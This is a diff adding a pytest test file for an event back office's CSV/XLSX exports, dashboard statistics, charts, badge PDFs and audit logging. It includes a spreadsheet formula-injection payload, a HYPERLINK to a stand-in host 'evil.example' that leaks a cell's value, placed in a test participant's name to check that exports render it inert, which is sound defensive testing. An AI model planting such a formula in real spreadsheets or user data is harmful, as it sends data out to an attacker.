@@ -1,0 +1,250 @@
+"""Exports (CSV, XLSX) and the dashboard: the same figures, and no formula slips through."""
+
+from __future__ import annotations
+
+import csv
+import html as htmllib
+import io
+import re
+from collections import Counter
+from datetime import UTC, datetime
+
+import pytest
+import sqlalchemy as sa
+from openpyxl import load_workbook
+
+from school.models import AuditEntry, CheckIn, RegistrationMeal, Session
+from tests.backoffice import Organiser, fresh, make_admin
+from tests.factories import make_choice, make_registration
+from tests.pdf_tools import pdf_text
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+@pytest.fixture
+def organiser(app, client, db, demo):
+    make_admin(app, db)
+    return Organiser(client).login()
+
+
+@pytest.fixture
+def crowd(db, demo):
+    """Participants of several countries, categories and Cités, with meals, diets,
+    seats, a waiting line, check-ins, a cancellation and some formula-like names."""
+    sessions = {s.key: s for s in fresh(db).scalars(sa.select(Session))}
+    explora, lunch = sessions["d1-visit-explora"], sessions["d1-lunch"]
+    explora.capacity = 3
+    people = []
+    for n, (country, category, cite, diet) in enumerate(
+        [
+            ("FR", "member", "Cité des métiers de Paris", "Végétarien"),
+            ("FR", "member", "Cité des métiers de Paris", "végétarien "),
+            ("BE", "member", "Cité des métiers de Bruxelles", None),
+            ("BE", "partner", None, "Sans gluten"),
+            ("CH", "guest", None, None),
+            ("PT", "speaker", "Cité des métiers de Lisboa", "Halal"),
+        ]
+    ):
+        person = make_registration(
+            db, demo, email=f"p{n}@example.org", country=country, category=category,
+            cite=cite, dietary=diet, first_name=["Ève", "+33 6 12", "@mention", "-minus",
+                                                 "Ada", "Raquel"][n],
+        )  # fmt: skip
+        db.add(RegistrationMeal(registration_id=person.id, session_id=lunch.id))
+        people.append(person)
+    people[0].last_name = FORMULA
+    for person in people[:3]:
+        make_choice(db, person, explora)
+    for person in people[3:5]:
+        make_choice(db, person, explora, status="waitlisted")
+    gone = make_registration(db, demo, email="gone@example.org", country="FR", status="cancelled")
+    db.add(RegistrationMeal(registration_id=gone.id, session_id=lunch.id))
+    now = datetime.now(UTC)
+
+    def scan(person, client_id, session=None, **fields):
+        checkpoint = f"session:{session.id}" if session else f"entrance:{demo.dates[0]}"
+        db.add(CheckIn(edition_id=demo.id, registration_id=person.id, day=demo.dates[0],
+                       session_id=session.id if session else None, scanned_at=now,
+                       checkpoint=checkpoint, client_id=client_id, verdict="ok",
+                       **fields))  # fmt: skip
+
+    for n, person in enumerate(people[:4]):
+        scan(person, f"door-{n}")
+    scan(people[0], "room-1", explora)
+    scan(people[4], "door-x", undone_at=now)  # undone: does not count
+    db.commit()
+    return people
+
+
+def download(organiser, demo, what: str, fmt: str, **params):
+    response = organiser.get(f"/organiser/{demo.slug}/exports/{what}.{fmt}", **params)
+    assert response.status_code == 200
+    assert "attachment" in response.headers["Content-Disposition"]
+    return response.data
+
+
+def csv_rows(data: bytes) -> list[list[str]]:
+    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel"
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
+
+
+def csv_tables(data: bytes) -> dict[str, list[list[str]]]:
+    """The CSV's tables: the first has no title; the others follow a blank line."""
+    tables, current, title = {}, [], "main"
+    rows = csv_rows(data)
+    index = 0
+    while index < len(rows):
+        row = rows[index]
+        if not row:
+            tables[title] = current
+            title, current = rows[index + 1][0], []
+            index += 2
+            continue
+        current.append(row)
+        index += 1
+    tables[title] = current
+    return tables
+
+
+def dashboard_numbers(html: str, section: str) -> dict[str, list[str]]:
+    """A dashboard section's table of numbers: {first cell: other cells}."""
+    part = html.split(f'id="{section}-title"')[1].split("</section>")[0]
+    table = part.split("<tbody>")[1].split("</tbody>")[0]
+    rows = {}
+    for row in re.findall(r"<tr>(.*?)</tr>", table, re.S):
+        cells = [htmllib.unescape(c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
+        rows[cells[0]] = cells[1:]
+    return rows
+
+
+def test_exports_figures_equal_the_dashboards(organiser, demo, crowd):
+    html = organiser.page(f"/organiser/{demo.slug}/")
+    assert re.search(r"<strong>6</strong> confirmed registrations", html)
+    assert re.search(r"<strong>4</strong> checked in", html)
+
+    registrations = csv_tables(download(organiser, demo, "registrations", "csv"))
+    header, *rows = registrations["main"]
+    assert len(rows) == 6  # the cancelled registration is not there
+    by_country = Counter(row[header.index("Country")] for row in rows)
+    assert {k: [str(v)] for k, v in by_country.items()} == dashboard_numbers(html, "country")
+    by_category = Counter(row[header.index("Category")] for row in rows)
+    assert {k: [str(v)] for k, v in by_category.items()} == dashboard_numbers(html, "category")
+    by_cite = Counter(row[header.index("Cité des métiers")] or "(none)" for row in rows)
+    assert {k: [str(v)] for k, v in by_cite.items()} == dashboard_numbers(html, "cite")
+    totals = dict(registrations["Totals"][1:])
+    assert totals["Confirmed registrations"] == "6" and totals["Checked in"] == "4"
+    assert sum(row[header.index("Checked in")] == "yes" for row in rows) == 4
+
+    fill = dashboard_numbers(html, "fill")["Tour of the permanent exhibitions (Explora)"]
+    assert fill == ["3", "3", "100 %", "2"]
+    lists = load_workbook(io.BytesIO(download(organiser, demo, "sessions", "xlsx")))
+    summary = {row[0]: row for row in lists["Sessions"].iter_rows(min_row=2, values_only=True)}
+    explora = summary["Tour of the permanent exhibitions (Explora)"]
+    assert explora[3:] == (3, 3, 2)
+    sheet = next(ws for ws in lists.worksheets if ws.title.startswith("Tour of the permanent"))
+    statuses = [row[4] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    assert statuses == ["Confirmed"] * 3 + ["Waiting list"] * 2
+    assert [row[5] for row in sheet.iter_rows(min_row=2, values_only=True)][3:] == [1, 2]
+
+    catering = csv_tables(download(organiser, demo, "catering", "csv"))["main"]
+    lunch = [row for row in catering[1:] if row[:2] == ["Buffet lunch", "2019-06-19"]]
+    counts = {row[3]: row[4] for row in lunch}
+    assert counts == {"All": "6", "No particular needs": "2", "Végétarien": "2",
+                      "Sans gluten": "1", "Halal": "1"}  # fmt: skip
+    meals = html.split('id="meals-title"')[1]
+    assert re.search(r"Buffet lunch \(Wed 19 Jun\)</td><td class=\"num\">6</td>", meals)
+    assert "Végétarien: 2" in meals
+
+    checkins = csv_tables(download(organiser, demo, "checkins", "csv"))
+    assert len(checkins["main"]) - 1 == 5  # accepted scans, the undone one left out
+    progress = {row[0]: row[1:] for row in checkins["Check-in progress"][1:]}
+    entrance = progress["Entrance, 2019-06-19"]
+    shown = dashboard_numbers(html, "checkin")
+    assert shown["Jun 19, 2019"] == entrance == ["6", "4"]
+    assert progress["Tour of the permanent exhibitions (Explora)"] == ["3", "1"]
+
+
+def test_a_formula_like_name_arrives_as_inert_text(organiser, demo, crowd, db):
+    rows = csv_tables(download(organiser, demo, "registrations", "csv"))["main"]
+    header = rows[0]
+    last_names = [row[header.index("Last name")] for row in rows[1:]]
+    first_names = [row[header.index("First name")] for row in rows[1:]]
+    assert "'" + FORMULA in last_names
+    assert {"'+33 6 12", "'@mention", "'-minus"} <= set(first_names)
+    assert not any(name.startswith(("=", "+", "-", "@")) for name in last_names + first_names)
+
+    book = load_workbook(io.BytesIO(download(organiser, demo, "registrations", "xlsx")))
+    sheet = book["Registrations"]
+    cells = [row[1] for row in sheet.iter_rows(min_row=2)] + [
+        row[2] for row in sheet.iter_rows(min_row=2)
+    ]
+    risky = [cell for cell in cells if str(cell.value).startswith(("=", "+", "-", "@"))]
+    assert {cell.value for cell in risky} == {FORMULA, "+33 6 12", "@mention", "-minus"}
+    for cell in risky:
+        assert cell.data_type == "s" and cell.quotePrefix, cell.value
+    assert sheet.cell(row=1, column=2).value == "Last name"
+    # Who took personal data out is in the audit log.
+    entries = (
+        fresh(db)
+        .scalars(
+            sa.select(AuditEntry)
+            .where(AuditEntry.action == "export.downloaded")
+            .order_by(AuditEntry.id)
+        )
+        .all()
+    )
+    assert [(e.target, e.details["format"]) for e in entries] == [
+        ("registrations", "csv"),
+        ("registrations", "xlsx"),
+    ]
+
+
+def test_exports_follow_the_tables_filters_and_the_language(organiser, demo, crowd):
+    rows = csv_rows(download(organiser, demo, "registrations", "csv", country="BE"))
+    header = rows[0]
+    names = [row[header.index("Country")] for row in rows[1 : rows.index([])]]
+    assert names == ["Belgium", "Belgium"]
+    organiser.lang = "fr"
+    rows = csv_rows(download(organiser, demo, "registrations", "csv", country="BE"))
+    assert rows[0][:3] == ["Id", "Nom", "Prénom"] and rows[1][6] == "Belgique"
+    html = organiser.page(f"/organiser/{demo.slug}/registrations", country="BE")
+    assert "country=BE" in html and "exports/registrations.xlsx" in html
+
+
+def test_the_dashboard_draws_accessible_charts(organiser, demo, crowd):
+    html = organiser.page(f"/organiser/{demo.slug}/")
+    charts = re.findall(r"<svg class=\"dash-chart\".*?</svg>", html, re.S)
+    assert len(charts) == 6
+    for chart in charts:
+        assert 'role="img"' in chart and "<title " in chart and "<desc " in chart
+        assert "style=" not in chart and "<script" not in chart
+    assert "France: 2" in html  # the description reads the numbers
+    assert '<details class="numbers">' in html
+    empty = organiser.page(f"/organiser/{demo.slug}/", lang="fr")
+    assert "Inscriptions au fil du temps" in empty
+
+
+def test_print_badges_by_category_and_one_at_the_door(organiser, demo, crowd, db):
+    html = organiser.page(f"/organiser/{demo.slug}/exports")
+    assert 'id="badges"' in html and "Print the badges (PDF)" in html
+    response = organiser.get(f"/organiser/{demo.slug}/badges.pdf", category="member")
+    assert response.status_code == 200 and response.mimetype == "application/pdf"
+    text = pdf_text(response.data)
+    assert "Ève" in text and "Raquel" not in text  # Raquel is a speaker
+    response = organiser.get(f"/organiser/{demo.slug}/badges.pdf", category="press")
+    assert response.status_code == 302
+    assert "nothing to print" in organiser.page(response.headers["Location"])
+    one = organiser.get(f"/organiser/{demo.slug}/badges.pdf", registration=crowd[5].id)
+    assert one.status_code == 200 and "Raquel" in pdf_text(one.data)
+    page = organiser.page(f"/organiser/{demo.slug}/registrations/{crowd[5].id}")
+    assert f"badges.pdf?registration={crowd[5].id}" in page
+    entries = (
+        fresh(db)
+        .scalars(
+            sa.select(AuditEntry.details)
+            .where(AuditEntry.action == "badges.printed")
+            .order_by(AuditEntry.id)
+        )
+        .all()
+    )
+    assert [e["count"] for e in entries] == [3, 1]
